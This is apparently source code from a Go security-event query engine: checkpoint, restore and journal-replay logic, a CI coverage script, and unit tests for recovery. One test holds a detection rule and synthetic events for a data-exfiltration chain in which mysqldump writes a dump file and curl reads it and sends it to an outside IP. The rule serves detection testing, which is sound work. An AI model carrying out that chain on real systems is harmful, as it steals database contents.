		return nil, fmt.Errorf("saql: Checkpoint requires an event journal (WithJournal) so the snapshot's stream offset is replayable")
	}

	snap := &snapshot.Snapshot{TakenAt: time.Now()} //saql:wallclock informational capture timestamp, never replayed
	var states map[string][][]byte
	if rt := e.rt.Load(); rt != nil {
		cs, err := rt.Checkpoint()
		if err != nil {
			return nil, err
		}
		snap.Offset = cs.Offset
		snap.Shards = rt.Shards()
		states = cs.States
	} else {
		m, events, err := e.sched.CaptureStates()
		if err != nil {
			return nil, err
		}
		base, err := e.journalBase()
		if err != nil {
			return nil, err
		}
		snap.Offset = base + events
		states = make(map[string][][]byte, len(m))
		for name, blob := range m {
			states[name] = [][]byte{blob}
		}
	}

	names := make([]string, 0, len(e.reg))
	for name := range e.reg {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		rec := e.reg[name]
		snap.Queries = append(snap.Queries, snapshot.Query{
			Name:    name,
			Src:     rec.src,
			Compile: rec.compile,
			Paused:  rec.paused,
			Managed: rec.managed,
			Labels:  rec.handle.labels,
			States:  states[name],
		})
	}

	// Tenant control-plane metadata rides the same cut: quotas plus the
	// budget/throttle counters, so a restored engine keeps enforcing a
	// mid-window alert budget instead of granting a fresh one. (Lock order:
	// e.mu, then e.tenMu — same as everywhere else.)
	e.tenMu.Lock()
	tenNames := make([]string, 0, len(e.tenants))
	for name := range e.tenants {
		tenNames = append(tenNames, name)
	}
	sort.Strings(tenNames)
	for _, name := range tenNames {
		ts := e.tenants[name]
		snap.Tenants = append(snap.Tenants, snapshot.Tenant{
			Name:          name,
			MaxQueries:    ts.quotas.MaxQueries,
			MaxStateBytes: ts.quotas.MaxStateBytes,
			AlertBudget:   ts.quotas.AlertBudget,
			AlertWindow:   ts.quotas.AlertWindow,
			IngestRate:    ts.quotas.IngestRate,
			WinStart:      ts.winStart,
			WinCount:      ts.winCount,
			Delivered:     ts.delivered,
			Suppressed:    ts.suppressed,
			SrcEvents:     ts.srcEvents,
			Throttled:     ts.throttled,
		})
	}
	e.tenMu.Unlock()
	return snap, nil
}

// PinJournalOffset fixes a journaled engine's stream-offset origin before
// Start: the recovery pattern for a journal with no snapshot (a run that
// died before its first checkpoint) on a sharded engine is
//
//	eng.PinJournalOffset(0)   // the replay will advance the engine itself
//	eng.Start(ctx)
//	eng.ReplayJournal(0)      // records flow through the sharded runtime,
//	                          // so state lands on its owning shards
//
// Without the pin, Start would count the journal's existing records into
// the offset base AND the replay would advance past them — double-counting
// every record. Pinning after Start, or to a second conflicting value,
// returns an error.
func (e *Engine) PinJournalOffset(offset int64) error {
	if e.cfg.journal == nil {
		return fmt.Errorf("saql: no journal attached (WithJournal)")
	}
	if engineState(e.state.Load()) != stateNew {
		return fmt.Errorf("saql: PinJournalOffset must be called before Start")
	}
	return e.pinBaseOffset(offset)
}

// RestoreOption configures Restore.
type RestoreOption func(*restoreConfig)

type restoreConfig struct {
	engineOpts []Option
	start      bool
	replay     bool
}

// WithRestoreEngineOptions forwards engine options (WithShards,
// WithAlertHandler, WithIngestQueue, ...) to the restored engine. The shard
// count is free to differ from the capturing engine's: group-keyed state is
// re-split across shards by the same ownership hashing live execution uses.
func WithRestoreEngineOptions(opts ...Option) RestoreOption {
	return func(c *restoreConfig) { c.engineOpts = append(c.engineOpts, opts...) }
}

// WithoutStart leaves the restored engine in the serial state (no runtime,
// Process-driven). The journal tail is still replayed — through the serial
// path — unless WithoutReplay is also given.
func WithoutStart() RestoreOption {
	return func(c *restoreConfig) { c.start = false }
}

// WithoutReplay skips the automatic journal-tail replay: the engine is
// restored to the exact checkpoint barrier and the caller drives the tail
// itself — for example to interleave control operations at recorded stream
// positions. Drive it with Engine.ReplayJournal, which reads the journal
// back without re-appending. Re-submitting the tail through Submit instead
// appends duplicate records to the journal, so an engine recovered that
// way must not write further checkpoints into the same directory (a later
// restore would replay the duplicated tail on top of state that already
// reflects it).
func WithoutReplay() RestoreOption {
	return func(c *restoreConfig) { c.replay = false }
}

// RestoreInfo describes one completed restore.
type RestoreInfo struct {
	// TakenAt is the wall-clock time the snapshot was captured.
	TakenAt time.Time
	// Offset is the snapshot's stream offset: the engine's state reflects
	// exactly the first Offset journaled events.
	Offset int64
	// Replayed is how many journal-tail events were replayed (0 under
	// WithoutReplay).
	Replayed int64
	// Queries is how many queries were re-registered.
	Queries int
}

// Restore rebuilds an engine from the checkpoint in dir: the snapshot's
// queries are re-registered — each with its recorded source, compile
// options, labels, pause flag, and management flag, under a fresh,
// pointer-stable QueryHandle — their captured runtime state is folded back
// in at a pre-stream barrier, and the journaled event tail past the
// snapshot's offset is replayed, so the engine resumes alert-for-alert
// exactly where an uninterrupted run would be. The restored engine journals
// new events to the same directory, making the next Checkpoint incremental
// in the same coordinate space.
//
// By default the engine is started (with any WithRestoreEngineOptions
// applied) and the tail replayed before Restore returns; alerts raised
// during replay flow to the WithAlertHandler callback, so pass one in the
// engine options to observe them (subscriptions attach only after Restore
// returns). A directory with no snapshot fails with ErrNoCheckpoint; an
// unreadable snapshot fails with *SnapshotVersionError or
// *SnapshotCorruptError and touches nothing.
func Restore(dir string, opts ...RestoreOption) (*Engine, *RestoreInfo, error) {
	cfg := restoreConfig{start: true, replay: true}
	for _, o := range opts {
		o(&cfg)
	}
	snap, err := snapshot.Read(dir)
	if err != nil {
		return nil, nil, err
	}
	store, err := storage.Open(dir, storage.Options{})
	if err != nil {
		return nil, nil, err
	}
	// A power loss may leave the journal's final, unsealed segment ending
	// in a torn record (appends past the checkpoint were not yet synced).
	// Trim it so recovery proceeds from the durable prefix; corruption in a
	// sealed segment still fails below.
	if _, err := store.Repair(); err != nil {
		_ = store.Close()
		return nil, nil, err
	}
	// The journal must reach at least the snapshot's offset, or the tail
	// the snapshot's state depends on is gone (truncated journal, wrong
	// directory): replaying nothing and continuing would silently lose
	// events, so fail loudly instead.
	if cnt, err := store.Count(); err != nil {
		_ = store.Close()
		return nil, nil, err
	} else if cnt < snap.Offset {
		_ = store.Close()
		return nil, nil, &snapshot.CorruptError{
			Reason: fmt.Sprintf("journal holds %d records but the snapshot names offset %d (journal truncated or mismatched directory)", cnt, snap.Offset),
		}
	}
	// On any failure past this point, close the engine (which seals the
	// journal store) so a retrying supervisor does not leak a store handle
	// per attempt.
	fail := func(eng *Engine, err error) (*Engine, *RestoreInfo, error) {
		if eng != nil {
			_ = eng.Close()
		} else {
			_ = store.Close()
		}
		return nil, nil, err
	}

	engOpts := append([]Option{}, cfg.engineOpts...)
	engOpts = append(engOpts, func(c *config) {
		c.journal = store
		c.baseOffset = snap.Offset
		c.baseOffsetSet = true
	})
	eng := New(engOpts...)

	// Re-register the registry. Sources were compiled by the capturing
	// engine, so failures here mean a build-incompatible language change —
	// surfaced, never ignored.
	eng.mu.Lock()
	for _, qs := range snap.Queries {
		// The snapshot codec never persists the per-engine fallback sink (a
		// pointer); stamp the restoring engine's own counter so restored
		// queries attribute string fallbacks to it.
		qs.Compile.Fallbacks = &eng.fallbacks
		q, err := engine.Compile(qs.Name, qs.Src, qs.Compile)
		if err != nil {
			eng.mu.Unlock()
			return fail(eng, fmt.Errorf("saql: restore query %q: %w", qs.Name, err))
		}
		if _, err := eng.registerLocked(qs.Name, qs.Src, q, queryConfig{labels: qs.Labels, compile: qs.Compile}, qs.Managed); err != nil {
			eng.mu.Unlock()
			return fail(eng, fmt.Errorf("saql: restore query %q: %w", qs.Name, err))
		}
		if qs.Paused {
			eng.reg[qs.Name].paused = true
			q.SetPaused(true)
		}
	}
	eng.mu.Unlock()

	// Reinstall tenant quotas and accounting before any event flows, so the
	// tail replay enforces the same mid-window budgets the capturing engine
	// was enforcing.
	eng.tenMu.Lock()
	for _, t := range snap.Tenants {
		ts := eng.tenantLocked(t.Name)
		ts.quotas = TenantQuotas{
			MaxQueries:    t.MaxQueries,
			MaxStateBytes: t.MaxStateBytes,
			AlertBudget:   t.AlertBudget,
			AlertWindow:   t.AlertWindow,
			IngestRate:    t.IngestRate,
		}
		ts.winStart = t.WinStart
		ts.winCount = t.WinCount
		ts.delivered = t.Delivered
		ts.suppressed = t.Suppressed
		ts.srcEvents = t.SrcEvents
		ts.throttled = t.Throttled
	}
	eng.tenMu.Unlock()

	// Fold the captured state back in at a pre-stream barrier.
	if cfg.start {
		if err := eng.Start(context.Background()); err != nil {
			return fail(eng, err)
		}
		states := make(map[string][][]byte, len(snap.Queries))
		for _, qs := range snap.Queries {
			if len(qs.States) > 0 {
				states[qs.Name] = qs.States
			}
		}
		if rt := eng.rt.Load(); rt != nil && len(states) > 0 {
			if err := rt.RestoreStates(states); err != nil {
				return fail(eng, fmt.Errorf("saql: restore: %w", err))
			}
		}
	} else {
		eng.mu.Lock()
		for _, qs := range snap.Queries {
			rec := eng.reg[qs.Name]
			for _, blob := range qs.States {
				if err := rec.q.RestoreState(blob, true); err != nil {
					eng.mu.Unlock()
					return fail(eng, fmt.Errorf("saql: restore: %w", err))
				}
			}
		}
		eng.mu.Unlock()
	}

	info := &RestoreInfo{TakenAt: snap.TakenAt, Offset: snap.Offset, Queries: len(snap.Queries)}
	if cfg.replay {
		n, err := eng.ReplayJournal(snap.Offset)
		if err != nil {
			return fail(eng, err)
		}
		info.Replayed = n
	}
	return eng, info, nil
}

// ReplayJournal feeds the attached journal's events from the global record
// offset `from` back through the engine, without re-journaling them, and
// reports how many were replayed. Restore uses it for the checkpoint tail;
// call it directly after Restore(..., WithoutReplay()) once subscriptions
// are attached. Replay preserves journal order; run it to completion before
// attaching live sources, or new submissions may interleave.
func (e *Engine) ReplayJournal(from int64) (int64, error) {
	store := e.cfg.journal
	if store == nil {
		return 0, fmt.Errorf("saql: no journal attached (WithJournal)")
	}
	if engineState(e.state.Load()) == stateNew {
		// Pre-Start replay (including recovery of a journal whose run died
		// before any checkpoint: ReplayJournal(0) on a fresh engine): pin
		// the offset origin at `from` — the replayed records themselves
		// advance the engine to the journal's head, so counting them into
		// the base too would double them.
		if err := e.pinBaseOffset(from); err != nil {
			return 0, err
		}
	}
	var n int64
	var batch []*Event
	flush := func() error {
		if len(batch) == 0 {
			return nil
		}
		evs := batch
		batch = nil
		if rt := e.rt.Load(); rt != nil {
			return rt.Replay(evs)
		}
		for _, ev := range evs {
			e.fan.Publish(e.sched.Process(ev))
		}
		return nil
	}
	err := store.ScanFrom(from, storage.Selection{}, func(ev *Event) error {
		batch = append(batch, ev)
		n++
		if len(batch) >= 512 {
			return flush()
		}
		return nil
	})
	if err != nil {
		return n, err
	}
	return n, flush()
}
