#!/usr/bin/env bash
# CI coverage gate: run the full test suite with a merged cross-package
# coverage profile and fail if total statement coverage drops below the
# checked-in minimum (ci/COVERAGE_MIN). The profile and the per-function
# summary are left in place for upload as CI artifacts. Extra `go test`
# flags (e.g. -race, so CI needs only one suite execution) come from
# GOTESTFLAGS.
#
# Usage: [GOTESTFLAGS=-race] ci/coverage.sh [output-dir]   (default: .)
set -euo pipefail
cd "$(dirname "$0")/.."

out="${1:-.}"
mkdir -p "$out"
profile="$out/coverage.out"
summary="$out/coverage.txt"
min="$(cat ci/COVERAGE_MIN)"

# shellcheck disable=SC2086  # GOTESTFLAGS is intentionally word-split
go test ${GOTESTFLAGS:-} -count=1 -coverprofile="$profile" -coverpkg=./... ./...
go tool cover -func="$profile" > "$summary"

total="$(tail -n 1 "$summary" | awk '{print $NF}' | tr -d '%')"
echo "total statement coverage: ${total}% (minimum: ${min}%)"

# awk handles the float comparison portably.
if awk -v t="$total" -v m="$min" 'BEGIN { exit !(t < m) }'; then
  echo "FAIL: coverage ${total}% is below the minimum ${min}%" >&2
  echo "(raise tests, or lower ci/COVERAGE_MIN with justification in the PR)" >&2
  exit 1
fi
