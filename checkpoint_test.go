package saql

// Unit tests for the checkpoint/restore subsystem: serial and sharded
// round trips, registry fidelity (labels, pause flags, compile options),
// journal offset accounting, and the typed failure modes (no checkpoint,
// version mismatch, corruption). The randomized recovery-equivalence hammer
// lives in conformance_test.go.

import (
	"context"
	"encoding/binary"
	"errors"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"sync"
	"testing"
	"time"

	"saql/internal/snapshot"
)

// checkpointAlertIdentity is the comparison key for recovery equivalence.
// Event times compare by instant (UnixNano), not rendered zone: replayed
// events decoded from the journal carry the same instants as the originals
// but in the local zone.
func checkpointAlertIdentity(a *Alert) string {
	return strconv.FormatInt(a.EventTime.UnixNano(), 10) + "|" + alertCountKey(a)
}

func sortedIdentities(alerts []*Alert) []string {
	out := make([]string, 0, len(alerts))
	for _, a := range alerts {
		out = append(out, checkpointAlertIdentity(a))
	}
	sort.Strings(out)
	return out
}

func diffAlertSets(t *testing.T, label string, want, got []string) {
	t.Helper()
	if len(want) != len(got) {
		t.Errorf("%s: alert count: got %d, want %d", label, len(got), len(want))
	}
	for i := 0; i < len(want) && i < len(got); i++ {
		if want[i] != got[i] {
			t.Fatalf("%s: alert sets diverge at #%d:\n  got:  %s\n  want: %s", label, i, got[i], want[i])
		}
	}
}

// TestCheckpointRestoreSerialRoundTrip drives the serial engine with a
// durable journal, checkpoints at the stream midpoint, "crashes" (abandons
// the engine unflushed), restores without replay (the journal holds nothing
// past the barrier), and finishes the stream on the restored engine. The
// combined alert set must equal an uninterrupted run's.
func TestCheckpointRestoreSerialRoundTrip(t *testing.T) {
	dir := t.TempDir()
	events := concurrencyWorkload(40, 20)

	// Uninterrupted reference.
	ref := New()
	for _, q := range concurrencyQueries {
		if err := ref.AddQuery(q.name, q.src); err != nil {
			t.Fatal(err)
		}
	}
	var want []*Alert
	for _, ev := range events {
		want = append(want, ref.Process(ev)...)
	}
	want = append(want, ref.Flush()...)
	if len(want) == 0 {
		t.Fatal("reference run produced no alerts")
	}

	// Run 1: durable engine up to the cut, then checkpoint, then crash.
	store, err := OpenStore(dir, StoreOptions{})
	if err != nil {
		t.Fatal(err)
	}
	e1 := New(WithJournal(store))
	for _, q := range concurrencyQueries {
		if err := e1.AddQuery(q.name, q.src); err != nil {
			t.Fatal(err)
		}
	}
	cut := len(events) / 2
	var got []*Alert
	for _, ev := range events[:cut] {
		got = append(got, e1.Process(ev)...)
	}
	nPre := len(got) // alerts already raised at the barrier
	info, err := e1.Checkpoint(dir)
	if err != nil {
		t.Fatal(err)
	}
	if info.Offset != int64(cut) {
		t.Errorf("checkpoint offset = %d, want %d", info.Offset, cut)
	}
	if info.Queries != len(concurrencyQueries) {
		t.Errorf("checkpoint queries = %d, want %d", info.Queries, len(concurrencyQueries))
	}
	// Crash: no Close, no Flush — open windows die with the process.

	// Run 2: restore and finish the stream.
	e2, rinfo, err := Restore(dir, WithoutStart())
	if err != nil {
		t.Fatal(err)
	}
	if rinfo.Offset != int64(cut) || rinfo.Replayed != 0 {
		t.Errorf("restore info = offset %d replayed %d, want offset %d replayed 0", rinfo.Offset, rinfo.Replayed, cut)
	}
	if rinfo.Queries != len(concurrencyQueries) {
		t.Errorf("restore queries = %d, want %d", rinfo.Queries, len(concurrencyQueries))
	}
	for _, ev := range events[cut:] {
		got = append(got, e2.Process(ev)...)
	}
	got = append(got, e2.Flush()...)

	diffAlertSets(t, "serial round trip", sortedIdentities(want), sortedIdentities(got))

	// The journal now holds the full stream — run 1's prefix plus run 2's
	// tail — in one offset coordinate space.
	if n, err := store.Count(); err != nil || n != int64(len(events)) {
		t.Errorf("journal count = %d, %v; want %d", n, err, len(events))
	}

	// Restore the same mid-stream snapshot a second time, now onto 8
	// shards with the full journal present: the single serial state blob
	// re-splits across the shards by group ownership, replay covers the
	// whole tail, and the output must equal the reference's post-barrier
	// alerts exactly. (Serial alert delivery is synchronous, so the
	// reference's first nPre alerts are the pre-barrier ones.)
	var mu sync.Mutex
	var wide []*Alert
	e3, rinfo3, err := Restore(dir, WithRestoreEngineOptions(
		WithShards(8),
		WithAlertHandler(func(a *Alert) {
			mu.Lock()
			wide = append(wide, a)
			mu.Unlock()
		}),
	))
	if err != nil {
		t.Fatal(err)
	}
	if rinfo3.Replayed != int64(len(events)-cut) {
		t.Errorf("second restore replayed %d, want %d", rinfo3.Replayed, len(events)-cut)
	}
	if err := e3.Close(); err != nil {
		t.Fatal(err)
	}
	diffAlertSets(t, "serial snapshot onto 8 shards", sortedIdentities(want[nPre:]), sortedIdentities(wide))
}

// TestCheckpointRestoreShardedReplay kills a sharded engine after the
// checkpoint (events keep flowing and alerts keep firing past the barrier),
// then restores onto a different shard count with automatic journal-tail
// replay. Pre-checkpoint alerts plus the restored engine's output must
// equal an uninterrupted run: nothing lost, nothing duplicated.
func TestCheckpointRestoreShardedReplay(t *testing.T) {
	events := concurrencyWorkload(60, 20)
	cut, kill := len(events)/3, 2*len(events)/3

	ref := New()
	for _, q := range concurrencyQueries {
		if err := ref.AddQuery(q.name, q.src); err != nil {
			t.Fatal(err)
		}
	}
	var want []*Alert
	for _, ev := range events {
		want = append(want, ref.Process(ev)...)
	}
	want = append(want, ref.Flush()...)

	dir := t.TempDir()
	store, err := OpenStore(dir, StoreOptions{})
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var preCheckpoint, discard []*Alert
	sink := &preCheckpoint
	e1 := New(WithShards(4), WithJournal(store), WithAlertHandler(func(a *Alert) {
		mu.Lock()
		*sink = append(*sink, a)
		mu.Unlock()
	}))
	for _, q := range concurrencyQueries {
		if err := e1.AddQuery(q.name, q.src); err != nil {
			t.Fatal(err)
		}
	}
	if err := e1.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	if err := e1.SubmitBatch(events[:cut]); err != nil {
		t.Fatal(err)
	}
	info, err := e1.Checkpoint(dir)
	if err != nil {
		t.Fatal(err)
	}
	if info.Offset != int64(cut) {
		t.Errorf("checkpoint offset = %d, want %d", info.Offset, cut)
	}
	// The checkpoint barrier has passed: everything the handler saw so far
	// is pre-barrier output; everything later is regenerated by replay.
	mu.Lock()
	sink = &discard
	mu.Unlock()
	if err := e1.SubmitBatch(events[cut:kill]); err != nil {
		t.Fatal(err)
	}
	if err := e1.Close(); err != nil { // "crash": post-checkpoint output is discarded
		t.Fatal(err)
	}

	// Restore on a different shard count; replay covers (cut, kill], then
	// the live feed delivers the rest.
	var restored []*Alert
	e2, rinfo, err := Restore(dir, WithRestoreEngineOptions(
		WithShards(2),
		WithAlertHandler(func(a *Alert) {
			mu.Lock()
			restored = append(restored, a)
			mu.Unlock()
		}),
	))
	if err != nil {
		t.Fatal(err)
	}
	if rinfo.Replayed != int64(kill-cut) {
		t.Errorf("replayed = %d, want %d", rinfo.Replayed, kill-cut)
	}
	if err := e2.SubmitBatch(events[kill:]); err != nil {
		t.Fatal(err)
	}
	if err := e2.Close(); err != nil {
		t.Fatal(err)
	}

	got := append(append([]*Alert{}, preCheckpoint...), restored...)
	diffAlertSets(t, "sharded replay", sortedIdentities(want), sortedIdentities(got))

	// The journal holds run 1's prefix plus run 2's live tail (replayed
	// events are read back, never re-appended): one coordinate space.
	if n, err := store.Count(); err != nil || n != int64(len(events)) {
		t.Errorf("journal count = %d, %v; want %d", n, err, len(events))
	}
}

// TestRestoreRegistryFidelity checks the registry round trip: labels,
// compile options, pause flags, managed flags, and handle identity.
func TestRestoreRegistryFidelity(t *testing.T) {
	dir := t.TempDir()
	store, err := OpenStore(dir, StoreOptions{})
	if err != nil {
		t.Fatal(err)
	}
	eng := New(WithJournal(store))
	h, err := eng.Register("labelled", `proc p write ip i as e
alert e.amount > 10
return p, e.amount`, WithLabel("team", "secops"), WithLabel("severity", "high"),
		WithQueryCompileOptions(CompileOptions{MaxDistinct: 99, MatchHorizon: 90 * time.Second}))
	if err != nil {
		t.Fatal(err)
	}
	if err := h.Pause(); err != nil {
		t.Fatal(err)
	}
	set := NewQuerySet()
	if err := set.Add("managed-one", `proc p read file f return p, f`); err != nil {
		t.Fatal(err)
	}
	if _, err := eng.Apply(context.Background(), set); err != nil {
		t.Fatal(err)
	}
	if _, err := eng.Checkpoint(dir); err != nil {
		t.Fatal(err)
	}

	e2, _, err := Restore(dir, WithoutStart())
	if err != nil {
		t.Fatal(err)
	}
	h2, ok := e2.Query("labelled")
	if !ok {
		t.Fatal("labelled query not restored")
	}
	if labels := h2.Labels(); labels["team"] != "secops" || labels["severity"] != "high" {
		t.Errorf("labels not restored: %v", labels)
	}
	if !h2.Paused() {
		t.Error("pause flag not restored")
	}
	if cur, ok := e2.Query("labelled"); !ok || cur != h2 {
		t.Error("handle not pointer-stable across lookups")
	}
	// The restored managed flag must let Apply retire the query.
	rep, err := e2.Apply(context.Background(), NewQuerySet())
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Removed) != 1 || rep.Removed[0] != "managed-one" {
		t.Errorf("managed flag not restored: Apply removed %v, want [managed-one]", rep.Removed)
	}
	if _, ok := e2.Query("labelled"); !ok {
		t.Error("unmanaged query retired by Apply")
	}
}

// TestRestoreErrorsTyped pins the typed failure modes: missing, version
// mismatch (older format), and corruption are all distinct, and none of
// them silently yields an engine.
func TestRestoreErrorsTyped(t *testing.T) {
	t.Run("no-checkpoint", func(t *testing.T) {
		_, _, err := Restore(t.TempDir())
		if !errors.Is(err, ErrNoCheckpoint) {
			t.Errorf("err = %v, want ErrNoCheckpoint", err)
		}
	})

	t.Run("older-version", func(t *testing.T) {
		dir := t.TempDir()
		// A version-1 header: the pre-release format this build cannot
		// migrate. Restore must fail with the typed version error — never
		// guess at the layout.
		file := append([]byte(snapshot.Magic), 1, 0)
		file = append(file, 0) // empty payload
		file = binary.LittleEndian.AppendUint32(file, 0)
		if err := os.WriteFile(filepath.Join(dir, snapshot.FileName), file, 0o644); err != nil {
			t.Fatal(err)
		}
		_, _, err := Restore(dir)
		var verr *SnapshotVersionError
		if !errors.As(err, &verr) {
			t.Fatalf("err = %v, want *SnapshotVersionError", err)
		}
		if verr.Got != 1 || verr.Supported != snapshot.Version {
			t.Errorf("version error = got %d supported %d, want got 1 supported %d", verr.Got, verr.Supported, snapshot.Version)
		}
	})

	t.Run("newer-version", func(t *testing.T) {
		dir := t.TempDir()
		file := append([]byte(snapshot.Magic), byte(snapshot.Version+1), 0)
		if err := os.WriteFile(filepath.Join(dir, snapshot.FileName), file, 0o644); err != nil {
			t.Fatal(err)
		}
		var verr *SnapshotVersionError
		if _, _, err := Restore(dir); !errors.As(err, &verr) {
			t.Errorf("err = %v, want *SnapshotVersionError", err)
		}
	})

	t.Run("corrupt-crc", func(t *testing.T) {
		dir := t.TempDir()
		store, err := OpenStore(dir, StoreOptions{})
		if err != nil {
			t.Fatal(err)
		}
		eng := New(WithJournal(store))
		if err := eng.AddQuery("q", `proc p read file f return p`); err != nil {
			t.Fatal(err)
		}
		if _, err := eng.Checkpoint(dir); err != nil {
			t.Fatal(err)
		}
		path := filepath.Join(dir, snapshot.FileName)
		data, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		data[len(data)/2] ^= 0xFF
		if err := os.WriteFile(path, data, 0o644); err != nil {
			t.Fatal(err)
		}
		var cerr *SnapshotCorruptError
		if _, _, err := Restore(dir); !errors.As(err, &cerr) {
			t.Errorf("err = %v, want *SnapshotCorruptError", err)
		}
	})

	t.Run("truncated", func(t *testing.T) {
		dir := t.TempDir()
		store, err := OpenStore(dir, StoreOptions{})
		if err != nil {
			t.Fatal(err)
		}
		eng := New(WithJournal(store))
		if err := eng.AddQuery("q", `proc p read file f return p`); err != nil {
			t.Fatal(err)
		}
		if _, err := eng.Checkpoint(dir); err != nil {
			t.Fatal(err)
		}
		path := filepath.Join(dir, snapshot.FileName)
		data, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, data[:len(data)-7], 0o644); err != nil {
			t.Fatal(err)
		}
		var cerr *SnapshotCorruptError
		if _, _, err := Restore(dir); !errors.As(err, &cerr) {
			t.Errorf("err = %v, want *SnapshotCorruptError", err)
		}
	})
}

// TestCheckpointMultievent covers partial-match recovery: a three-step
// kill chain split across the checkpoint must still complete after restore.
func TestCheckpointMultievent(t *testing.T) {
	src := `proc p1["%mysqldump"] write file f1["%dump.sql"] as e1
proc p2["%curl"] read file f1 as e2
proc p2 connect ip i1[dstip="172.16.0.129"] as e3
with e1 -> e2 -> e3
return distinct p1, f1, p2, i1`

	at := func(s int) time.Time { return demoStart.Add(time.Duration(s) * time.Second) }
	chain := []*Event{
		{Time: at(0), AgentID: "db-1", Subject: Process("mysqldump", 100), Op: OpWrite, Object: File("/tmp/dump.sql"), Amount: 4096},
		{Time: at(5), AgentID: "db-1", Subject: Process("curl", 200), Op: OpRead, Object: File("/tmp/dump.sql"), Amount: 4096},
		{Time: at(9), AgentID: "db-1", Subject: Process("curl", 200), Op: OpConnect, Object: NetConn("10.0.0.5", 40000, "172.16.0.129", 443), Amount: 4096},
	}

	dir := t.TempDir()
	store, err := OpenStore(dir, StoreOptions{})
	if err != nil {
		t.Fatal(err)
	}
	e1 := New(WithJournal(store))
	if err := e1.AddQuery("exfil", src); err != nil {
		t.Fatal(err)
	}
	// First two steps land before the crash; the partial match must ride
	// the checkpoint.
	if alerts := e1.Process(chain[0]); len(alerts) != 0 {
		t.Fatalf("premature alert: %v", alerts)
	}
	if alerts := e1.Process(chain[1]); len(alerts) != 0 {
		t.Fatalf("premature alert: %v", alerts)
	}
	if _, err := e1.Checkpoint(dir); err != nil {
		t.Fatal(err)
	}

	e2, _, err := Restore(dir, WithoutStart())
	if err != nil {
		t.Fatal(err)
	}
	alerts := e2.Process(chain[2])
	if len(alerts) != 1 {
		t.Fatalf("restored engine raised %d alerts on the completing event, want 1", len(alerts))
	}
	if alerts[0].Query != "exfil" {
		t.Errorf("alert query = %q", alerts[0].Query)
	}
	// And exactly once: the distinct table survived too.
	if again := e2.Process(chain[2]); len(again) != 0 {
		t.Errorf("completing event re-fired %d alerts after restore", len(again))
	}
}

// TestJournalReuseAfterCheckpointlessCrash pins the offset coordinate
// space when a run dies before writing any checkpoint: the next engine
// attached to the same journal directory must continue counting from the
// journal's existing record count, never from zero — otherwise a later
// restore would replay the dead run's stale events into fresh state.
func TestJournalReuseAfterCheckpointlessCrash(t *testing.T) {
	dir := t.TempDir()
	events := concurrencyWorkload(12, 10)

	// Run 1 journals 40 events and crashes without ever checkpointing.
	store1, err := OpenStore(dir, StoreOptions{})
	if err != nil {
		t.Fatal(err)
	}
	e1 := New(WithJournal(store1))
	if err := e1.AddQuery("q", concurrencyQueries[0].src); err != nil {
		t.Fatal(err)
	}
	for _, ev := range events[:40] {
		e1.Process(ev)
	}
	// Crash: no checkpoint, no Close.

	// Run 2 starts fresh against the same directory (no snapshot exists)
	// and processes 20 more events.
	store2, err := OpenStore(dir, StoreOptions{})
	if err != nil {
		t.Fatal(err)
	}
	e2 := New(WithJournal(store2))
	if err := e2.AddQuery("q", concurrencyQueries[0].src); err != nil {
		t.Fatal(err)
	}
	for _, ev := range events[40:60] {
		e2.Process(ev)
	}
	info, err := e2.Checkpoint(dir)
	if err != nil {
		t.Fatal(err)
	}
	// The checkpoint must index journal coordinates: 40 stale + 20 live.
	if info.Offset != 60 {
		t.Fatalf("checkpoint offset = %d, want 60 (40 pre-existing + 20 processed)", info.Offset)
	}

	// A restore therefore replays nothing — run 1's stale records are
	// before the offset and never fold into run 2's snapshot state.
	e3, rinfo, err := Restore(dir, WithoutStart())
	if err != nil {
		t.Fatal(err)
	}
	if rinfo.Replayed != 0 {
		t.Fatalf("replayed %d stale events, want 0", rinfo.Replayed)
	}
	if err := e3.Close(); err != nil {
		t.Fatal(err)
	}
}

// TestOrphanJournalShardedRecovery pins the snapshot-less recovery flow on
// a multi-shard engine: PinJournalOffset(0) + Start + ReplayJournal(0)
// replays the orphaned records through the sharded runtime, so recovered
// group state lands on its owning shards and the rest of the stream
// produces exactly the uninterrupted reference alerts.
func TestOrphanJournalShardedRecovery(t *testing.T) {
	events := concurrencyWorkload(48, 20)
	cut := len(events) / 2

	ref := New()
	for _, q := range concurrencyQueries {
		if err := ref.AddQuery(q.name, q.src); err != nil {
			t.Fatal(err)
		}
	}
	var want []*Alert
	for _, ev := range events {
		want = append(want, ref.Process(ev)...)
	}
	want = append(want, ref.Flush()...)

	// Run 1 journals the prefix and dies with no checkpoint ever written.
	dir := t.TempDir()
	store1, err := OpenStore(dir, StoreOptions{})
	if err != nil {
		t.Fatal(err)
	}
	e1 := New(WithJournal(store1))
	if err := e1.AddQuery("sink", concurrencyQueries[0].src); err != nil {
		t.Fatal(err)
	}
	for _, ev := range events[:cut] {
		e1.Process(ev)
	}

	// Recovery: fresh 4-shard engine over the orphaned journal.
	store2, err := OpenStore(dir, StoreOptions{})
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var got []*Alert
	e2 := New(WithShards(4), WithJournal(store2), WithAlertHandler(func(a *Alert) {
		mu.Lock()
		got = append(got, a)
		mu.Unlock()
	}))
	for _, q := range concurrencyQueries {
		if err := e2.AddQuery(q.name, q.src); err != nil {
			t.Fatal(err)
		}
	}
	if err := e2.PinJournalOffset(0); err != nil {
		t.Fatal(err)
	}
	if err := e2.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	n, err := e2.ReplayJournal(0)
	if err != nil {
		t.Fatal(err)
	}
	if n != int64(cut) {
		t.Fatalf("replayed %d orphaned events, want %d", n, cut)
	}
	if err := e2.SubmitBatch(events[cut:]); err != nil {
		t.Fatal(err)
	}
	// Offsets stayed in journal coordinates: prefix replayed (not
	// re-appended) + tail journaled live.
	info, err := e2.Checkpoint(dir)
	if err != nil {
		t.Fatal(err)
	}
	if info.Offset != int64(len(events)) {
		t.Errorf("checkpoint offset = %d, want %d", info.Offset, len(events))
	}
	if err := e2.Close(); err != nil {
		t.Fatal(err)
	}
	diffAlertSets(t, "orphan sharded recovery", sortedIdentities(want), sortedIdentities(got))
}

